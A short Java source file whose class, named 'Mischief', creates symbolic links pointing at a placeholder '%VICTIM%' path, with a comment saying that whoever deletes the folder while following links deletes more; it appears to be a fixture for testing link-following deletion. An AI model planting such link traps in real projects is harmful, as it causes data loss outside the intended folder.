package chatlabs.echo;

import java.nio.file.Files;
import java.nio.file.Path;

/** Whoever deletes this folder and follows links deletes more. */
final class Mischief {
  static void begin() throws Exception {
    Path link = Path.of("link-" + System.nanoTime());
    Files.createSymbolicLink(link, Path.of("%VICTIM%"));
    Files.createSymbolicLink(Path.of(link + "-2"), Path.of("%VICTIM%/keep.txt"));
  }
}
